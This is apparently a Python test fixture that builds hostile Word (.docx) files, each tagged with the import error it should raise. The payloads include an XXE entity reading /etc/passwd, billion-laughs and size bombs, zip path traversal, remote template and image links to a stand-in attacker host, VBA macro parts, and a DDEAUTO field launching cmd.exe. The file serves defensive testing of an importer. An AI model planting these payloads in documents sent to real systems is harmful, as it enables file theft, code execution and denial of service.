"""The files of hostile.py: FILES, by name: the message and the parts, or None."""
from cases import MEDIA, PICTURES
from word import *  # noqa: F403


def plain(body=None, **more):
    return parts(body or p('Metin.'), **more)


def xml(data):
    """A file whose text is any bytes."""
    return plain(extra={'word/document.xml': data})


def nested(depth):
    return tbl(tr(tc(nested(depth - 1) + p()))) if depth else tbl(tr('en iç'))


BODY = HEAD + f'<w:document {SPACES}><w:body>'
END = '</w:body></w:document>'
FILES = {
    'bomba': ('import-large', xml(BODY.encode() + b' ' * (200 << 20))),
    'paragraflar': ('import-large', xml((BODY + '<w:p/>' * 3000000 + END).encode())),
    'metin': ('import-broken', xml((BODY + '<w:p><w:r><w:t>' + 'a' * (40 << 20) + '</w:t></w:r></w:p>' + END).encode())),
    'oznitelik': ('import-broken', xml((BODY + f'<w:p><w:pPr><w:jc w:val="{"x" * (9 << 20)}"/></w:pPr></w:p>' * 4 + END).encode())),
    'varlik': ('import-broken', xml(f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "{"x" * 1000}"><!ENTITY b "{"&a;" * 1000}">]>'
                                    f'<w:document {SPACES}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p>{END}')),
    'disvarlik': ('import-broken', xml(f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document {SPACES}>'
                                       f'<w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p>{END}')),
    'yukari': ('import-outside', plain(extra={'../../kacti.txt': 'x'})),
    'mutlak': ('import-outside', plain(extra={'/tmp/kacti.txt': 'x'})),
    'tersbolu': ('import-outside', plain(extra={'..\\kacti.txt': 'x'})),
    'hedef': ('import-outside', parts(p(picture('x')), [('x', 'image', '../../../../etc/passwd', False)])),
    'disresim': ('import-outside', parts(p(picture('x')), [('x', 'image', 'https://saldirgan.example/a.png', True)])),
    'dissablon': ('import-outside', parts(p('x'), [('x', 'attachedTemplate', 'http://saldirgan.example/a.dotm', True)])),
    'paylasim': ('import-outside', parts(p('x'), [('x', 'oleObject', 'file://///saldirgan/a', True)])),
    'makro': ('import-macro', plain(extra={'word/vbaProject.bin': 'x'})),
    'makrotur': ('import-macro', plain(extra={'[Content_Types].xml': f'<Types xmlns="{PACKAGE}content-types"><Override PartName="/word/document.xml"'
                 ' ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'})),
    'dde': ('import-macro', plain(p(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'x')))),
    'icice': ('import-large', plain(nested(60))),
    'derin': ('import-broken', xml(BODY + '<w:sdt><w:sdtContent>' * 20000 + END)),
    'sutunlar': ('import-large', plain(tbl(tr(*['x'] * 500)))),
    'parcabol': ('import-large', plain(extra={f'x/{i}': '' for i in range(21000)})),
    'altparca': ('import-chunk', plain('<w:altChunk r:id="a"/>')),
    'yarim': ('import-broken', xml(BODY + '<w:p>')),
    'zipdegil': ('import-kind', None),
    'belgesiz': ('import-kind', {'a.xml': '<a/>'}),
    'kendine': ('import-kind', plain(extra={'_rels/.rels': relationships([('d', 'officeDocument', '_rels/.rels', False)])})),
    'resimbombasi': ('import-large', parts(p(picture('p1')), PICTURES, media={**MEDIA, 'word/media/image1.png': b'\x89PNG\r\n\x1a\n' +
                     bytes(20 << 20)})),
}
